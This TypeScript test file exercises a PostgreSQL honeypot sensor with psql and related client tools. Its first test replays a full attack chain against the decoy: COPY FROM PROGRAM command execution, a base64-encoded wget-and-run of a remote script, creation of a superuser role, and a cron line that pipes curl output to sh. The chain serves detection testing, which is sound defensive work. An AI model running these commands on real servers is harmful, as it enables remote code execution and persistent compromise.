/** The PostgreSQL decoy as psql and its kin see it. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { type Sensor, startSensor, without } from './sensor.ts';

const execute = promisify(execFile);

/** A session of psql 15 against a decoy, as it was recorded; not part of this repository. */
const recorded = join(
  process.env.WATERGUARD_TEST_DATA ?? fileURLToPath(new URL('../../../shared/data', import.meta.url)),
  'honeypots/psql-15-transcript.jsonl',
);

describe('psql', { skip: without('psql', 'pg_dump', 'pg_isready', 'createdb') }, () => {
  let sensor: Sensor;

  before(async () => {
    sensor = await startSensor(['postgres']);
  });
  after(() => sensor[Symbol.asyncDispose]());

  const at = (): string[] => ['-h', '127.0.0.1', '-p', String(sensor.port('postgres')), '-U', 'postgres'];

  /** @throws where the program ends with anything but 0 */
  async function run(program: string, args: readonly string[], env: Readonly<Record<string, string>> = {}) {
    return execute(program, [...at(), ...args], {
      timeout: 20_000,
      maxBuffer: 8 << 20,
      env: { PATH: process.env.PATH, PGPASSWORD: 'postgres', HOME: sensor.folder, ...env },
    });
  }

  async function psql(...commands: string[]): Promise<string> {
    const { stdout } = await run('psql', [
      '-X',
      '-v',
      'ON_ERROR_STOP=1',
      ...commands.flatMap((one) => ['-c', one]),
    ]);
    return stdout;
  }

  it('runs the whole attack, and each of its steps is an event', async () => {
    const script = Buffer.from('wget -q http://198.51.100.7/pg.sh -O /tmp/pg.sh; sh /tmp/pg.sh').toString(
      'base64',
    );
    const shown = await psql(
      'select version()',
      'DROP TABLE IF EXISTS cmd_exec',
      'CREATE TABLE cmd_exec(cmd_output text)',
      "COPY cmd_exec FROM PROGRAM 'id'",
      'SELECT * FROM cmd_exec',
      `COPY cmd_exec FROM PROGRAM 'echo ${script}|base64 -d|bash'`,
      'DROP TABLE IF EXISTS cmd_exec',
      "CREATE ROLE pgg_superadmins SUPERUSER LOGIN PASSWORD 'x'",
      "COPY (SELECT '* * * * * curl -s http://198.51.100.8/c|sh') TO '/tmp/cron'",
    );
    assert.match(shown, /PostgreSQL 15\.18 \(Debian 15\.18-0\+deb12u1\)/);
    assert.match(shown, /uid=\d+\(postgres\) gid=\d+\(postgres\)/);

    const auth = await sensor.event('postgres.auth');
    assert.deepEqual(
      [auth.data!.user, auth.data!.password, auth.data!.isLetIn],
      ['postgres', 'postgres', true],
    );
    assert.equal(auth.severity, 'medium');
    assert.equal(auth.fp.ua, 'psql');
    assert.match(String(auth.fp.ja4), /^t13/);
    const id = await sensor.event('postgres.program');
    assert.deepEqual(id.norm.commands, ['id']);
    assert.equal(id.severity, 'critical');
    assert.ok(id.attack.includes('T1059.004'));
    const second = await sensor.event('postgres.program', ({ norm }) => norm.urls.length > 0);
    assert.deepEqual(second.norm.urls, ['http://198.51.100.7/pg.sh']);
    assert.ok(second.attack.includes('T1105'), second.attack.join());
    const role = await sensor.event('postgres.role');
    assert.ok(role.attack.includes('T1136'));
    const drop = await sensor.event('postgres.drop');
    assert.deepEqual(drop.data, { what: 'table', names: ['cmd_exec'] });
    const file = await sensor.event('postgres.file');
    assert.deepEqual(file.norm.urls, ['http://198.51.100.8/c']);
    const [artefact] = file.data!.artefacts as { name: string }[];
    assert.equal(artefact!.name, '/tmp/cron');
    for (const word of ['version()', 'CREATE TABLE cmd_exec'])
      await sensor.event('postgres.query', ({ data }) => String(data!.query).includes(word));
  });

  it('lists databases, tables, roles and what a table is like', async () => {
    assert.match(await psql('\\l'), /postgres +\| postgres +\| UTF8 +\| C\.UTF-8/);
    const { stdout: names } = await run('psql', [
      '-XAtc',
      'select datname from pg_database where oid > 10000',
    ]);
    const database = names.trim();
    const { stdout } = await run('psql', [
      '-X',
      '-d',
      database,
      ...['\\dt', '\\d users', '\\du', '\\dn', '\\dx', '\\df', '\\conninfo', '\\d'].flatMap((one) => [
        '-c',
        one,
      ]),
    ]);
    assert.match(stdout, /public \| users +\| table/);
    assert.match(stdout, /email +\| text +\| +\| not null/);
    assert.match(stdout, /"users_pkey" PRIMARY KEY, btree \(id\)/);
    assert.match(stdout, /Superuser, Create role, Create DB, Replication, Bypass RLS/);
    assert.match(stdout, /plpgsql \| 1\.0 +\| pg_catalog/);
    assert.match(stdout, new RegExp(`You are connected to database "${database}" as user "postgres"`));
  });

  it('copies both ways, runs several statements at once, and is refused in the words of PostgreSQL', async () => {
    const file = join(sensor.folder, 'rows.tsv');
    writeFileSync(file, '1\tone\n2\ttwo\n');
    const shown = await psql(
      'create table copied(a int, b text)',
      `\\copy copied from '${file}'`,
      'insert into copied values (3, null); select count(*) from copied',
      '\\copy copied to stdout',
    );
    assert.match(shown, /COPY 2\n[\s\S]*1\tone\n2\ttwo\n3\t\\N\n/);
    const copied = await sensor.event('postgres.copy');
    assert.equal(copied.data!.size, 12);
    await assert.rejects(psql('select nope'), ({ stderr }: { readonly stderr: string }) =>
      /^ERROR: {2}column "nope" does not exist\nLINE 1: select nope\n {15}\^\n$/.test(stderr),
    );
  });

  it('speaks TLS where it is asked to', async () => {
    const secure = await run('psql', ['-X', '-c', '\\conninfo'], { PGSSLMODE: 'require' });
    assert.match(secure.stdout, /SSL connection \(protocol: TLSv1\.3/);
    const plain = await run('psql', ['-XAt', '-c', 'select 1'], {
      PGSSLMODE: 'disable',
      PGGSSENCMODE: 'disable',
    });
    assert.equal(plain.stdout, '1\n');
  });

  it('refuses what nobody set', async () => {
    await assert.rejects(
      run('psql', ['-X', '-c', 'select 1'], { PGPASSWORD: 'nobody-set-this' }),
      ({ stderr }: { readonly stderr: string }) =>
        /password authentication failed for user "postgres"/.test(stderr),
    );
  });

  it('is there for the programs beside psql', async () => {
    assert.match((await run('pg_isready', [])).stdout, /accepting connections/);
    await run('createdb', ['made']);
    await run('dropdb', ['made']);
    await run('createuser', ['somebody']);
    const { stdout: names } = await run('psql', [
      '-XAtc',
      'select datname from pg_database where oid > 10000',
    ]);
    const { stdout: dump } = await run('pg_dump', ['-d', names.trim().split('\n')[0]!]);
    assert.match(dump, /^CREATE TABLE public\.users \($/m);
    assert.match(dump, /^COPY public\.users \(id, email, password_digest, admin, created_at\) FROM stdin;$/m);
    assert.match(dump, /^-- PostgreSQL database dump complete$/m);
  });

  it('replays what was recorded', {
    skip: existsSync(recorded) ? false : 'shared/data/honeypots/psql-15-transcript.jsonl is absent',
  }, async () => {
    const steps = readFileSync(recorded, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { readonly e?: string; readonly q?: string; readonly cmd?: string });
    const asked = steps.flatMap(({ q }) => q ?? []);
    const before = sensor.events().length;
    await psql(...asked);
    const seen = sensor.events().slice(before);
    for (const one of asked)
      assert.ok(
        seen.some(({ type, data }) => type === 'postgres.query' && data!.query === one),
        one,
      );
    for (const { cmd } of steps)
      if (cmd !== undefined)
        assert.ok(seen.some(({ type, norm }) => type === 'postgres.program' && norm.commands.includes(cmd)));
  });
});
